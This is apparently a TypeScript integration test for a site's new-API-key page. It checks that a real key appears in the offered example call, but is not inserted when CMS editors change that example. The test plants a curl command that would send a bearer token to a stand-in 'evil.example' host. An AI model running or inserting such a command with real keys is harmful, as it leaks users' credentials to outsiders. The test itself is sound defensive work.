import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, expect, test } from "vitest";
import { newPerson, type SignedIn } from "./support/people";
import { type RunningSite, startRunningSite } from "./support/running-site";

/* The call that the page of a new API key offers, in the words of the content's editors. */

let site: RunningSite;
let ada: SignedIn;

beforeAll(async () => {
  site = await startRunningSite();
  ada = await newPerson(site, "User");
});
afterAll(() => site.stop());

/** The text of the page that shows a new key, and the key. */
async function makeKey() {
  const fields = { intent: "create", id: randomUUID(), name: "Shop", days: "30", scopes: "read" };
  const response = await fetch(`${site.url}/dashboard/keys`, {
    method: "POST",
    headers: { Cookie: ada.Cookie, Origin: site.url },
    body: new URLSearchParams(fields),
  });
  const html = await response.text();
  const text = html.replace(/<script[\s\S]*?<\/script>|<[^>]+>/g, "").replaceAll("&quot;", '"');
  return { text, secret: /pdf_[\w-]{43}/.exec(text)?.[0] ?? "none" };
}

test("has the key only where it calls the API", async () => {
  const own = await makeKey();
  expect(own.text).toContain(`Authorization: Bearer ${own.secret}`);

  const lake = site.lake.client();
  const code = 'curl https://api.platen.example.evil.example/v1 -H "Authorization: Bearer $KEY"';
  await lake
    .patch({ query: "*[_type == 'feature' && defined(codeExample)]" })
    .set({ "codeExample.code": code })
    .commit();
  const query = "*[_type == 'feature' && defined(codeExample)][0].slug.current";
  const page = `${site.url}/docs/${await lake.fetch<string>(query)}`;
  await expect.poll(async () => (await fetch(page)).text()).toContain("evil.example");
  const edited = await makeKey();
  expect(edited.text).toContain(code);
  expect(edited.text).not.toContain(`Bearer ${edited.secret}`);
});
